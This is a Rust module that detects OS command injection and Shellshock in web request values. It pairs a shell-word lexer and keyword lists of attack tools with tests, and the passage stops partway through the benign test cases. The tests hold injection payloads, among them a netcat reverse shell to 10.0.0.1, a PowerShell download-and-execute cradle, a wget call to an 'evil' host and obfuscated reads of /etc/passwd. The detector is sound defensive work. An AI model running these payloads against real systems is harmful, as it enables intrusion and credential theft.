//! OS command injection (Unix shells, Windows cmd and PowerShell) and Shellshock.
//!
//! A small shell lexer looks for the places where a new command can start (`;`, `|`,
//! `||`, `&`, `&&`, newline, backticks, `$(`, `<(`), reads the next word the way a shell
//! would (dropping quotes, backslashes, empty expansions such as `$@` or `${x}`, treating
//! `${IFS}` as a blank) and checks it against a dictionary of commands. Words that are
//! also common English (`cat`, `id`, `type`) must carry shell-looking arguments or end
//! the value; rare ones (`whoami`, `wget`) are enough alone. Free text in bodies counts
//! less, since prose uses `;` and `&`.

use super::gate::Triggers;
use super::textscan::{contains_ci, find_ci, hit, push_once, snippet};
use super::{Hit, Part, Value};

const CLASS: &str = "rce";
const MAX_BYTES: usize = 8192;
/// Command-start positions examined per value.
const MAX_STARTS: usize = 128;

/// Commands whose name alone after a separator is proof (rare as English words).
const STRONG: &[&str] = &[
    "whoami", "uname", "ifconfig", "ipconfig", "nslookup", "netstat", "systeminfo", "tasklist",
    "taskkill", "powershell", "pwsh", "certutil", "bitsadmin", "wget", "curl", "ncat", "netcat",
    "nc", "bash", "sh", "zsh", "ksh", "csh", "tcsh", "dash", "busybox", "python", "python2",
    "python3", "perl", "ruby", "php", "lua", "telnet", "chmod", "chown", "crontab", "useradd",
    "usermod", "sudo", "nohup", "xxd", "base64", "wmic", "rundll32", "regsvr32", "mshta",
    "cscript", "wscript", "msiexec", "getent", "lsof", "traceroute", "tracert", "tftp", "socat",
    "nmap", "gcc", "cmd", "printenv", "uptime", "hostname", "ifup", "iptables", "passwd",
    "sysctl", "dmesg", "lspci", "killall", "pkill", "mkfifo", "mknod", "openssl", "xterm",
    "pwd", "ls", "id", "net1", "schtasks", "reg", "vssadmin", "icacls", "cacls", "findstr",
    "chcp", "arp", "route", "nbtstat", "qwinsta", "quser", "runas", "timeout", "ping", "netsh",
    "net.exe", "whoami.exe", "ifconfig.exe", "powershell_ise", "sysinfo", "irb", "gdb", "perf",
    "flock", "ansible", "ansible-playbook", "ansible-console", "ansible-doc", "ansible-inventory",
    "ansible-vault", "ansible-galaxy", "chef-client", "chef-shell", "chef-solo", "cscli", "visudo",
    "htop", "strace", "ltrace", "tcpdump", "nsenter", "unshare", "kubectl", "crictl", "runc",
    "tmux", "gawk", "nawk", "mawk", "rsync", "setarch", "taskset", "stdbuf", "ssh-keygen",
    "pkexec", "doas", "capsh", "chroot", "start-stop-daemon", "php-cgi", "jjs", "jrunscript",
    "nodejs", "deno", "luajit", "tclsh", "rlwrap", "rview", "rvim", "mutt", "composer", "ftp",
    "sftp", "smbclient", "rpcclient", "mysqldump", "pg_dump", "sqlite3", "xxd", "hexdump",
    "aa-disable", "aa-exec", "setcap", "getcap", "chattr", "lsattr", "dpkg", "rpm", "apt-get",
    "logger", "journalctl", "systemd-run", "nproc",
    "lscpu", "lsblk", "blkid", "fdisk", "mkfs", "modprobe", "insmod", "rmmod", "lsmod",
];

/// Commands that are also English words: need shell-looking arguments.
const WEAK: &[&str] = &[
    "cat", "echo", "sleep", "type", "dir", "set", "more", "less", "find", "kill", "sort", "head",
    "tail", "net", "ver", "vol", "rm", "cp", "mv", "touch", "mkdir", "grep", "egrep", "awk",
    "sed", "ps", "who", "du", "df", "dig", "host", "whois", "cd", "call", "start", "exit",
    "expr", "eval", "exec", "export", "unset", "time", "wait", "tee", "uniq", "wc", "od",
    "strings", "file", "which", "whereis", "locate", "last", "finger", "mail", "date", "history",
    "alias", "read", "printf", "shutdown", "reboot", "halt", "su", "sc", "del", "copy", "move",
    "ren", "attrib", "tree", "env", "nl", "rev", "tac", "cut", "xargs", "chdir", "systemctl",
    "service", "kill", "ln", "tar", "zip", "unzip", "gzip", "mysql", "psql", "java", "node",
    "scp", "ssh", "ftp", "rcp", "rsh", "rlogin", "true", "false", "test", "print", "diff",
    "users", "groups", "w", "system", "shell", "pause", "cls", "erase", "rd", "rmdir", "md",
    "mount", "umount", "fdisk", "dd", "apt", "yum", "pip", "npm", "git", "make", "vi", "vim",
    "nano", "top", "free", "whatis", "man", "info", "jobs", "bg", "fg", "disown", "trap",
    "source", "logout", "chgrp", "stat", "readlink", "realpath", "basename", "dirname", "seq",
    "bc", "factor", "yes", "sum", "cksum", "md5sum", "sha1sum", "sha256sum",
];

/// Cmdlet verbs: `Verb-Noun` after a separator is PowerShell.
const PS_VERBS: &[&str] = &[
    "get-", "set-", "invoke-", "new-", "start-", "remove-", "add-", "out-", "write-", "read-",
    "copy-", "move-", "stop-", "test-", "convertto-", "convertfrom-", "import-", "export-",
];

/// Fragments that are shell/PowerShell invocations wherever they appear.
const INVOCATIONS: &[&str] = &[
    "/bin/sh", "/bin/bash", "/bin/zsh", "/bin/ksh", "/bin/dash", "/bin/busybox", "/usr/bin/env ",
    "/bin/nc ", "/dev/tcp/", "/dev/udp/", "${shell}", "$shell -c", "$shell<<<", "cmd.exe", "cmd /c", "cmd/c", "cmd /k", "command.com",
    "powershell.exe", "powershell -", "powershell+-", "pwsh -", "invoke-expression",
    "invoke-webrequest", "downloadstring(", "downloadfile(", "net.webclient", "-encodedcommand",
    "frombase64string(", "iex(", "iex (", "start-process", "bash -i", "bash -c", "sh -c ",
    "sh -i", "nc -e", "nc -l", "ncat -e", "mkfifo /tmp", "python -c", "python3 -c", "perl -e",
    "ruby -e", "php -r", "%comspec%", "$env:comspec", "system32\\cmd", "/system32/cmd",
    "wscript.shell", "shell.application", "process.start(",
];

/// What a value must contain for any rule of this class to match (see `gate`): add a
/// trigger here with every new rule.
pub const TRIGGERS: Triggers = Triggers {
    // Fragments found anywhere: invocations, Shellshock, `alias`, redirections, `$IFS`,
    // SSI, here-strings, arithmetic, Windows variables...
    anywhere: &[
        INVOCATIONS,
        &["() {", "(){", "alias", ">/dev/null", "> /dev/null", ">&/dev/", "</dev/", "2>&1", "$ifs", "${ifs", "<!--#", "<<<", "$(("],
        WINDOWS_ENV_VARS,
        // `IF` conditions without `%` (`batch_statement`).
        &["=="],
        BATCH_IF_WORDS,
    ],
    // ...and a command word after a separator, a value that is itself a command line, or
    // a cmd.exe statement.
    custom: Some(|v| {
        leading_command(v) || command_after_separator(v) || v.text.contains('%') && batch_statement(v.text.get(..super::textscan::floor_char(v.text, MAX_BYTES)).unwrap_or(v.text)).is_some()
    }),
    ..Triggers::NONE
};

/// Windows environment variables naming system locations.
const WINDOWS_ENV_VARS: &[&str] = &["%systemroot%", "%windir%", "%comspec%", "%programfiles%", "%systemdrive%", "%userprofile%", "%appdata%", "%temp%", "%homedrive%"];

/// A place where a new command can start at `i` (`;`, `|`, `||`, `&`, `&&`, newline,
/// backtick, `$(`, `<(`, `>(`): its kind and where the command word begins.
fn separator_at(s: &[u8], i: usize) -> Option<(Sep, usize)> {
    Some(match s.get(i).copied()? {
        b'`' => (Sep::Subst, i + 1),
        b'$' if s.get(i + 1) == Some(&b'(') && s.get(i + 2) != Some(&b'(') => (Sep::Subst, i + 2),
        b'<' | b'>' if s.get(i + 1) == Some(&b'(') => (Sep::Subst, i + 2),
        b';' => (Sep::Chain, i + 1),
        b'\n' | b'\r' => (Sep::Newline, i + 1),
        b'|' => (Sep::Chain, if s.get(i + 1) == Some(&b'|') { i + 2 } else { i + 1 }),
        b'&' => (Sep::Chain, if s.get(i + 1) == Some(&b'&') { i + 2 } else { i + 1 }),
        _ => return None,
    })
}

/// The gate's condition for `rce.command-chain`/`rce.substitution`: a command word at one
/// of the separators `scan` examines.
fn command_after_separator(v: &Value<'_>) -> bool {
    let full = v.text;
    let s = full.get(..super::textscan::floor_char(full, MAX_BYTES)).unwrap_or(full).as_bytes();
    let (mut i, mut starts) = (0, 0);
    while i < s.len() && starts < MAX_STARTS {
        // Skip to the next byte that can start a separator.
        match s.get(i..).and_then(|r| r.iter().position(|c| matches!(c, b'`' | b'$' | b'<' | b'>' | b';' | b'\n' | b'\r' | b'|' | b'&'))) {
            Some(o) => i += o,
            None => break,
        }
        let Some((_, next)) = separator_at(s, i) else {
            i += 1;
            continue;
        };
        starts += 1;
        if command_at(s, next).is_some() {
            return true;
        }
        i = next.max(i + 1);
    }
    false
}

/// Words of a cmd.exe `IF` condition (`batch_statement`).
const BATCH_IF_WORDS: &[&str] = &["exist", "defined", "errorlevel", " equ ", " neq ", " lss ", " leq ", " gtr ", " geq ", "+equ+", "+gtr+", "+lss+"];

/// The gate's condition for `rce.leading-command`: more than one word (or a quote first)
/// and a command word first.
fn leading_command(v: &Value<'_>) -> bool {
    let full = v.text;
    let t = full.get(..super::textscan::floor_char(full, MAX_BYTES)).unwrap_or(full);
    let s = t.as_bytes();
    let multi_word = s.iter().any(|&b| matches!(b, b' ' | b'\t' | b'+' | b'$'));
    let quoted = matches!(s.first(), Some(b'\'' | b'"'));
    (multi_word || quoted) && !is_prose(v) && command_at(s, usize::from(quoted)).is_some()
}

/// Per-value scan.
pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
    let full = v.text;
    let t = full.get(..super::textscan::floor_char(full, MAX_BYTES)).unwrap_or(full);
    let s = t.as_bytes();
    if s.is_empty() {
        return;
    }
    let since = out.len();
    let prose = is_prose(v);
    let (sc_score, sc_pl) = if prose { (3, 2) } else { (5, 1) };

    // Shellshock: a function definition at the start of a value (headers, usually).
    let trimmed = t.trim_start_matches([' ', '\t', '"', '\'']);
    if trimmed.starts_with("() {") || trimmed.starts_with("(){") || trimmed.starts_with("() {") {
        push_once(out, since, hit("rce.shellshock", CLASS, 5, 1, snippet(trimmed, 0, 80)));
    }

    // Quick exit: no shell metacharacter and no invocation fragment.
    let has_meta = s.iter().any(|&b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'(' | b'{' | b'%' | b'\'' | b'"' | b'<'));
    if !has_meta && !t.contains('/') && !t.contains('-') && !t.contains('.') {
        return;
    }

    static INVOCATIONS_AC: std::sync::OnceLock<Option<aho_corasick::AhoCorasick>> = std::sync::OnceLock::new();
    if let Some(ac) = INVOCATIONS_AC.get_or_init(|| super::textscan::automaton(INVOCATIONS)) {
        for m in ac.find_overlapping_iter(s).take(16) {
            let at = m.start();
            let frag = INVOCATIONS.get(m.pattern().as_usize()).copied().unwrap_or_default();
            // `sh -c`-like fragments need a word boundary before them.
            if frag.starts_with(|c: char| c.is_ascii_alphabetic()) && !super::textscan::word_start(s, at) {
                continue;
            }
            let (score, pl) = if prose { (3, 2) } else { (5, 1) };
            push_once(out, since, hit("rce.shell-invocation", CLASS, score, pl, snippet(t, at, at + 80)));
            break;
        }
    }

    if has_ifs(t) {
        push_once(out, since, hit("rce.ifs", CLASS, 5, 1, snippet(t, find_ci(t, "ifs").unwrap_or(0).saturating_sub(4), 80)));
    }

    // Command starts after separators and inside substitutions.
    let mut starts = 0;
    let mut i = 0;
    while i < s.len() && starts < MAX_STARTS {
        let b = s.get(i).copied().unwrap_or(0);
        let Some((kind, next)) = separator_at(s, i) else {
            i += 1;
            continue;
        };
        starts += 1;
        if let Some(cmd) = command_at(s, next) {
            let ok = match (kind, cmd.strength) {
                (_, Strength::Glob) => true,
                (Sep::Subst, _) => {
                    cmd.args_shellish || cmd.strength == Strength::Strong || cmd.ends_value || cmd.then_close || cmd.then_separator || {
                        let close = if b == b'`' { b'`' } else { b')' };
                        s.get(cmd.end..).is_some_and(|r| r.iter().take(120).any(|&c| c == close))
                    }
                }
                // Structured headers (`User-Agent: (X11; U; id)`) use `;` as a list
                // separator: only real arguments count there.
                _ if v.part == Part::Header => cmd.args_shellish,
                (_, Strength::Strong) => cmd.args_shellish || cmd.ends_value || cmd.then_separator,
                (_, Strength::Weak) => cmd.args_shellish || cmd.ends_value,
            };
            // `a&b=c` in a raw form body is a parameter, not a command.
            if ok {
                let ev = snippet(t, i, cmd.end.max(i + 1) + 40);
                let (score, pl) = match kind {
                    Sep::Newline if prose => (2, 3),
                    Sep::Newline => (5, 1),
                    _ => (sc_score, sc_pl),
                };
                let rule = if kind == Sep::Subst { "rce.substitution" } else { "rce.command-chain" };
                push_once(out, since, hit(rule, CLASS, score, pl, ev));
            }
        }
        i = next.max(i + 1);
    }

    // A value that is itself a command line (`wget http://x/s.sh`, `cat /etc/passwd`).
    // (Only values with an argument after the first word, or opening with a quote.)
    let multi_word = s.iter().any(|&b| matches!(b, b' ' | b'\t' | b'+' | b'$'));
    if !prose && (multi_word || matches!(s.first(), Some(b'\'' | b'"'))) {
        // A quote first (`' whoami`) breaks out of a quoted argument.
        let quoted = matches!(s.first(), Some(b'\'' | b'"'));
        let start = if quoted { 1 } else { 0 };
        if let Some(cmd) = command_at(s, start) {
            if cmd.args_shellish && cmd.strength != Strength::Weak {
                push_once(out, since, hit("rce.leading-command", CLASS, 5, 1, snippet(t, 0, 80)));
            } else if cmd.args_shellish {
                push_once(out, since, hit("rce.leading-command", CLASS, 3, 1, snippet(t, 0, 80)));
            } else if quoted && cmd.strength == Strength::Strong && cmd.ends_value {
                push_once(out, since, hit("rce.leading-command", CLASS, 5, 1, snippet(t, 0, 80)));
            }
        }
    }

    // cmd.exe control flow: `FOR /F "..." %%G IN (...) DO ...`, `IF [NOT] EXIST x cmd`.
    if let Some((score, at)) = batch_statement(t) {
        push_once(out, since, hit("rce.windows-batch", CLASS, score, 1, snippet(t, at, at + 80)));
    }

    // `alias x=curl`: an alias for a known command.
    if let Some(at) = find_ci(t, "alias").filter(|_| t.contains('=')) {
        let rest = t.get(at + 5..).unwrap_or_default().trim_start_matches([' ', '+', '\t']);
        if let Some(eq) = rest.find('=').filter(|&e| e > 0 && e < 32) {
            let val = rest.get(eq + 1..).unwrap_or_default().as_bytes();
            if super::textscan::word_start(s, at) && command_at(val, 0).is_some() {
                push_once(out, since, hit("rce.alias-command", CLASS, 5, 1, snippet(t, at, at + 60)));
            }
        }
    }

    // Server-side includes.
    if let Some(at) = super::textscan::find_lit!(s, b"<!--#") {
        let d = t.get(at + 5..).unwrap_or_default().trim_start().to_ascii_lowercase();
        let (score, ok) = if d.starts_with("exec") || d.starts_with("include") || d.starts_with("fsize") || d.starts_with("flastmod") {
            (5, true)
        } else if d.starts_with("echo") || d.starts_with("printenv") || d.starts_with("config") || d.starts_with("set") {
            (3, true)
        } else {
            (0, false)
        };
        if ok {
            push_once(out, since, hit("rce.ssi-directive", CLASS, score, 1, snippet(t, at, at + 80)));
        }
    }
    // Windows environment variables naming system locations.
    for var in if t.contains('%') { WINDOWS_ENV_VARS } else { &[][..] } {
        if let Some(at) = find_ci(t, var) {
            push_once(out, since, hit("rce.windows-env-var", CLASS, 3, 1, snippet(t, at, at + 60)));
            break;
        }
    }
    // Here-strings fed to a shell (`$0<<<$'\\x69\\x64'`).
    for frag in if super::textscan::find_lit!(s, b"<<<").is_some() { &["$0<<<", "$0 <<<", "sh<<<", "bash<<<", "sh <<<", "bash <<<"][..] } else { &[][..] } {
        if let Some(at) = memchr::memmem::find(s, frag.as_bytes()) {
            push_once(out, since, hit("rce.shell-invocation", CLASS, 5, 1, snippet(t, at, at + 60)));
            break;
        }
    }

    // Redirections typical of injected commands.
    for frag in if t.contains('>') || super::textscan::find_lit!(s, b"</").is_some() { &["2>&1", ">/dev/null", "> /dev/null", ">&/dev/", "</dev/"][..] } else { &[][..] } {
        if let Some(at) = memchr::memmem::find(s, frag.as_bytes()) {
            push_once(out, since, hit("rce.redirection", CLASS, 3, 2, snippet(t, at, at + 40)));
            break;
        }
    }
    if contains_ci(t, "$((") && t.contains("))") && !prose {
        push_once(out, since, hit("rce.arithmetic-expansion", CLASS, 3, 2, snippet(t, find_ci(t, "$((").unwrap_or(0), 60)));
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Sep {
    Chain,
    Newline,
    Subst,
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Strength {
    Strong,
    Weak,
    /// `/???/c?t`: a path made of glob characters.
    Glob,
}

struct Cmd {
    strength: Strength,
    /// The arguments look like shell arguments (options, paths, variables, numbers...).
    args_shellish: bool,
    /// Nothing but blanks/quotes/comment after the command word.
    ends_value: bool,
    /// A separator follows directly (`;id;`).
    then_separator: bool,
    /// A `)` follows (end of a `$(..)` substitution).
    then_close: bool,
    end: usize,
}

/// True for the blank forms a shell accepts: `${IFS}`, `$IFS` (not `$IFSX`), `$IFS$9`.
fn has_ifs(t: &str) -> bool {
    let b = t.as_bytes();
    let mut from = 0;
    while let Some(at) = t.get(from..).and_then(|r| r.find('$')).map(|o| o + from) {
        let rest = b.get(at + 1..).unwrap_or_default();
        let braced = rest.len() >= 4 && rest.get(..4).is_some_and(|w| w.eq_ignore_ascii_case(b"{ifs"));
        let bare = rest.get(..3).is_some_and(|w| w == b"IFS");
        if braced || bare {
            return true;
        }
        from = at + 1;
    }
    false
}

/// Reads one shell word starting at `i` (after blanks), de-obfuscated and lower-cased.
/// Returns the word and the index after it.
fn read_word(s: &[u8], i: usize) -> (String, usize) {
    // An unset variable (`$u cat`) expands to nothing: the command is the next word.
    let mut at = i;
    for _ in 0..3 {
        let (w, end) = read_word_once(s, at);
        if !w.is_empty() || end == at || !s.get(at..end).is_some_and(|r| r.contains(&b'$')) {
            return (w, end);
        }
        at = end;
    }
    (String::new(), at)
}

fn read_word_once(s: &[u8], mut i: usize) -> (String, usize) {
    // Leading blanks, grouping and negation.
    loop {
        match s.get(i) {
            Some(b' ' | b'\t' | b'{' | b'(' | b'!' | b'+') => i += 1,
            Some(b'$') if ifs_len(s, i) > 0 => i += ifs_len(s, i),
            _ => break,
        }
    }
    let mut w = String::new();
    while let Some(&c) = s.get(i) {
        if w.len() >= 64 {
            break;
        }
        match c {
            b'\\' => {
                if let Some(&n) = s.get(i + 1) {
                    if n != b'\n' && !n.is_ascii_whitespace() {
                        w.push(n.to_ascii_lowercase() as char);
                    }
                }
                i += 2;
            }
            b'\'' | b'"' => i += 1,
            // `[u]name`: a one-character bracket glob is that character.
            b'[' if s.get(i + 2) == Some(&b']') && s.get(i + 1).is_some_and(|c| c.is_ascii_alphanumeric()) => {
                if let Some(&c1) = s.get(i + 1) {
                    w.push(c1.to_ascii_lowercase() as char);
                }
                i += 3;
            }
            b'$' => {
                if ifs_len(s, i) > 0 {
                    break;
                }
                match s.get(i + 1) {
                    Some(b'@' | b'*' | b'0'..=b'9') => i += 2,
                    Some(b'{') => {
                        let close = s.get(i..).and_then(|r| r.iter().take(40).position(|&x| x == b'}'));
                        match close {
                            Some(c) => i += c + 1,
                            None => break,
                        }
                    }
                    Some(x) if x.is_ascii_alphabetic() || *x == b'_' => {
                        // `$u` (unset variable, expands to nothing) inside a word.
                        i += 1;
                        while s.get(i).is_some_and(|x| x.is_ascii_alphanumeric() || *x == b'_') {
                            i += 1;
                        }
                    }
                    _ => break,
                }
            }
            // `+` is a blank once a URL is decoded (`;cat+/etc/passwd`).
            b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')' | b'`' | b',' | b'}' | b'+' | 0 => break,
            _ => {
                w.push(c.to_ascii_lowercase() as char);
                i += 1;
            }
        }
    }
    (w, i)
}

/// Length of an IFS blank at `i` (`${IFS}`, `$IFS$9`, `$IFS`), or 0.
fn ifs_len(s: &[u8], i: usize) -> usize {
    let rest = s.get(i..).unwrap_or_default();
    if rest.len() >= 6 && rest.get(..6).is_some_and(|w| w.eq_ignore_ascii_case(b"${ifs}")) {
        return 6;
    }
    if rest.get(..4) == Some(b"$IFS") {
        if rest.get(4) == Some(&b'$') && rest.get(5).is_some_and(|c| c.is_ascii_digit()) {
            return 6;
        }
        return 4;
    }
    0
}

/// The command word at `i`, if it names a known command.
fn command_at(s: &[u8], i: usize) -> Option<Cmd> {
    let (word, end) = read_word(s, i);
    if word.is_empty() {
        return None;
    }
    // `VAR=value` assignments and URLs are not command words.
    if word.contains('=') || word.contains("://") {
        return None;
    }
    let name = word.rsplit(['/', '\\']).next().unwrap_or(&word);
    let name = name.strip_suffix(".exe").unwrap_or(name);
    let strength = if (word.contains('?') || word.contains('*')) && word.starts_with('/') && glob_path(&word) {
        Strength::Glob
    } else if is_strong(name) || (word.contains('/') && is_weak(name) && word.starts_with('/')) {
        Strength::Strong
    } else if is_weak(name) {
        Strength::Weak
    } else if PS_VERBS.iter().any(|v| name.starts_with(v) && name.len() > v.len() + 2 && name.bytes().all(|b| b.is_ascii_alphabetic() || b == b'-')) {
        Strength::Strong
    } else {
        return None;
    };
    // What follows the word.
    let mut j = end;
    loop {
        match s.get(j) {
            Some(b' ' | b'\t' | b'+') => j += 1,
            Some(b'$') if ifs_len(s, j) > 0 => j += ifs_len(s, j),
            _ => break,
        }
    }
    let rest = s.get(j..).unwrap_or_default();
    let followed_by_eq = s.get(end) == Some(&b'=');
    let ends_value = rest.iter().all(|&c| matches!(c, b' ' | b'\t' | b'\'' | b'"' | b'`' | b';' | b'#' | b'&' | b'|' | b'\n' | b'\r' | b'\0'))
        || rest.first() == Some(&b'#')
        || rest.starts_with(b"//")
        || rest.starts_with(b"%00");
    let then_separator = rest.first().is_some_and(|&c| matches!(c, b';' | b'|' | b'&' | b'`' | b'\n'));
    let then_close = rest.first() == Some(&b')');
    let first = rest.first().copied();
    let args_shellish = match first {
        Some(b'-' | b'/' | b'.' | b'~' | b'$' | b'%' | b'>' | b'<' | b'\\' | b'*') => {
            // `- ` alone (a dash in prose) is not an option.
            !(first == Some(b'-') && rest.get(1).is_none_or(|c| c.is_ascii_whitespace()))
        }
        Some(c) if c.is_ascii_digit() => true,
        Some(b'\'' | b'"') => true,
        Some(_) if raw_token(rest).windows(2).any(|w| w == b"$(" || w == b"${") || raw_token(rest).contains(&b'`') => true,
        Some(_) => {
            let (arg, _) = read_word(s, j);
            let drive = arg.as_bytes().get(1) == Some(&b':') && arg.bytes().next().is_some_and(|c| c.is_ascii_alphabetic());
            arg.contains('/') || arg.contains('.') && arg.len() > 2 || arg.contains('\\') || drive || subcommand(name, &arg)
        }
        None => false,
    } && end > i;
    // A word directly glued to letters (`setup`, `category`) or a `name=value` pair is
    // not this command.
    let glued = s.get(end).is_some_and(|c| c.is_ascii_alphanumeric());
    if glued || followed_by_eq {
        return None;
    }
    Some(Cmd { strength, args_shellish, ends_value, then_separator, then_close, end })
}

/// A `FOR ... %v IN (...) DO` loop or an `IF` statement in cmd.exe syntax. Returns the
/// score and offset.
fn batch_statement(t: &str) -> Option<(u32, usize)> {
    use super::textscan::contains_ci;
    let for_gate = t.contains('%') && contains_ci(t, "for") && contains_ci(t, " do");
    let if_gate = contains_ci(t, "if")
        && (t.contains('%') || t.contains("==") || BATCH_IF_WORDS.iter().any(|k| contains_ci(t, k)));
    if !for_gate && !if_gate {
        return None;
    }
    let lower = t.get(..super::textscan::floor_char(t, 2048)).unwrap_or(t).to_ascii_lowercase();
    let b = lower.as_bytes();
    let words = |from: usize| -> Vec<(usize, &str)> {
        let mut v = Vec::new();
        let mut i = from;
        while v.len() < 24 {
            while b.get(i).is_some_and(|c| c.is_ascii_whitespace() || *c == b'+') {
                i += 1;
            }
            if i >= b.len() {
                break;
            }
            let start = i;
            while b.get(i).is_some_and(|c| !c.is_ascii_whitespace() && *c != b'+') {
                i += 1;
            }
            v.push((start, lower.get(start..i).unwrap_or_default()));
        }
        v
    };
    let mut from = 0;
    while let Some(at) = lower.as_bytes().get(from..).and_then(|r| super::textscan::find_lit!(r, b"for")).map(|o| o + from) {
        from = at + 3;
        if !super::textscan::word_start(b, at) || !super::textscan::word_end(b, at + 3) {
            continue;
        }
        let ws = words(at + 3);
        // Skip switches and the options string to the loop variable.
        let var = ws.iter().position(|(_, w)| w.starts_with('%') && w.len() <= 4 && w.len() >= 2);
        if let Some(vi) = var {
            let rest: Vec<&str> = ws.iter().skip(vi + 1).map(|(_, w)| *w).collect();
            let has_in = rest.first().is_some_and(|w| *w == "in" || w.starts_with("in("));
            let has_do = rest.iter().any(|w| *w == "do" || w.ends_with(")do") || w.starts_with("do"));
            if has_in && has_do && lower.get(at..).is_some_and(|r| r.contains('(') && r.contains(')')) {
                return Some((5, at));
            }
        }
    }
    let mut from = 0;
    while let Some(at) = lower.as_bytes().get(from..).and_then(|r| super::textscan::find_lit!(r, b"if")).map(|o| o + from) {
        from = at + 2;
        if !super::textscan::word_start(b, at) || !super::textscan::word_end(b, at + 2) {
            continue;
        }
        let ws = words(at + 2);
        let mut k = 0;
        if ws.first().is_some_and(|(_, w)| *w == "not" || *w == "/i") {
            k += 1;
        }
        let Some((_, first)) = ws.get(k) else { continue };
        let cond_kw = matches!(*first, "exist" | "defined" | "errorlevel" | "cmdextversion");
        let cmp = ws.iter().skip(k).take(4).any(|(_, w)| matches!(*w, "equ" | "neq" | "lss" | "leq" | "gtr" | "geq") || w.contains("=="));
        let enough = ws.len() >= k + 3;
        let has_var = lower.get(at..).is_some_and(|r| r.contains('%') || r.contains('!'));
        if (cond_kw || cmp) && enough {
            let score = if has_var || cmp && cond_kw || first.starts_with('%') || first.starts_with('"') || first.starts_with('[') || first.starts_with('(') { 5 } else { 3 };
            return Some((score, at));
        }
    }
    None
}

/// The raw text up to the next blank.
fn raw_token(rest: &[u8]) -> &[u8] {
    let n = rest.iter().take(128).position(|c| c.is_ascii_whitespace()).unwrap_or(rest.len().min(128));
    rest.get(..n).unwrap_or_default()
}

fn is_strong(name: &str) -> bool {
    static SET: std::sync::OnceLock<std::collections::HashSet<&'static str>> = std::sync::OnceLock::new();
    SET.get_or_init(|| STRONG.iter().copied().collect()).contains(name)
}

fn is_weak(name: &str) -> bool {
    static SET: std::sync::OnceLock<std::collections::HashSet<&'static str>> = std::sync::OnceLock::new();
    SET.get_or_init(|| WEAK.iter().copied().collect()).contains(name)
}

/// Windows admin tools whose first argument is a verb (`net user`, `sc query`).
fn subcommand(cmd: &str, arg: &str) -> bool {
    match cmd {
        "net" | "net1" => matches!(arg, "user" | "users" | "localgroup" | "view" | "use" | "share" | "session" | "accounts" | "group" | "config" | "start" | "stop"),
        "sc" => matches!(arg, "query" | "create" | "start" | "stop" | "config" | "delete" | "qc"),
        "reg" => matches!(arg, "query" | "add" | "delete" | "export" | "save"),
        "cmd" => matches!(arg, "/c" | "/k"),
        _ => false,
    }
}

/// `/???/c?t`, `/bin/n?`: every segment is letters and glob characters, some glob.
fn glob_path(w: &str) -> bool {
    let segs: Vec<&str> = w.split('/').filter(|x| !x.is_empty()).collect();
    segs.len() >= 2
        && segs.iter().all(|x| x.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'?' || b == b'*' || b == b'[' || b == b']'))
}

/// Free text (several words) in a body field or raw body: separators are punctuation.
fn is_prose(v: &Value<'_>) -> bool {
    if !matches!(v.part, Part::BodyValue | Part::BodyRaw) {
        return false;
    }
    let words = v.text.split_whitespace().take(12).filter(|w| w.len() >= 2 && w.bytes().all(|b| b.is_ascii_alphabetic() || b == b',' || b == b'.')).count();
    words >= 8
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(part: Part, text: &str) -> u32 {
        let mut out = Vec::new();
        scan(&Value { part, name: "cmd", text }, &mut out);
        out.iter().filter(|h| h.paranoia == 1).map(|h| h.score).sum()
    }
    fn rules(part: Part, text: &str) -> Vec<&'static str> {
        let mut out = Vec::new();
        scan(&Value { part, name: "cmd", text }, &mut out);
        out.iter().map(|h| h.rule).collect()
    }

    #[test]
    fn attacks() {
        for a in [
            "127.0.0.1; cat /etc/passwd",
            "x|id",
            "x;id;",
            "x && whoami",
            "a`id`",
            "$(uname -a)",
            "x;c'a't /etc/passwd",
            "x;w\\ho\\am\\i",
            "x;cat${IFS}/etc/passwd",
            "a|/???/c?t /???/p??s??",
            "|| ping -c 10 127.0.0.1",
            "& dir c:\\",
            "| type C:\\boot.ini",
            "& powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://x')\"",
            "x\nwget http://evil/x.sh",
            "() { :;}; /bin/bash -c 'id'",
            "';sleep 5;'",
            "$(sleep 5)",
            "&echo$IFS123$((1+2))",
            "x; Get-ChildItem C:\\",
            "; nc -e /bin/sh 10.0.0.1 4444",
            "| net user",
            "x;ls",
            ";echo ZZKJNZ$((11+6))$(echo ZZKJNZ)ZZKJNZ",
            ";+$u+cat+/etc$u/passwd+\\#",
            ";cat+/e??/pa???d",
            "<!--#exec cmd=\"/usr/bin/id;-->",
            "netstat -an",
            "wget https://evil.example/x.txt",
            "' whoami",
            "$aaaaaa/bin$bbbbbb/cat$ccccccc $dddddd/etc$eeeeeee/passwd$fffffff",
            "'; str=$(echo IITGSD); str1=${#str}; if [ 4 -ne ${str1} ]; then sleep 0; fi &",
            "FOR /F \"tokens=1-5\" %A IN (\"This is a short sentence\") DO @echo %A %B %D",
            "for %%d in (A,C,D) do DIR %%d *.*",
            "IF        [%1]==[]               ECHO Value Missing",
            "if (1) equ (1) echo hey",
            "IF        %ERRORLEVEL% GTR 2     echo test",
            "alias eennvv=env&eennvv whoami",
            "alias 'letter'=curl",
            "x;/usr/bin/[u]name -a",
            "${SHELL} -c \"echo hi\"",
            ";gdb -nx -ex \\!whoami -ex quit",
        ] {
            assert!(score(Part::QueryValue, a) >= 5, "{a}: {:?}", rules(Part::QueryValue, a));
        }
    }

    #[test]
    fn benign() {
        for b in [
            "Tom & Jerry",
            "rock & roll; jazz | blues",
            "I came; I saw; I conquered",
            "salt & pepper",
            "a=1&b=2&id=3",
            "Buy now; ship later | cancel any time",
            "We'll set up the meeting; type your notes here",
            "price: $100 (approx)",
            "cat food & dog toys",
            "Section 3; see page 4",
            "hello world",
            "jsessionid=abc;path=/",
            "C&A; H&M; M&S",
            "The cat sat on the mat. Echo the answer.",
            "x-y-z",
            "2+2=4",
            "function() { return 1; }",
            "(a) { b }",
            "R&D department; head office",
            "file; copy of my notes",
            "$HOME is your home",
            "mammal;cat;ears",
            "if not found, call us for help in (most) cases; do it now",
            "for each in (list) do something",
            "If exist, great",
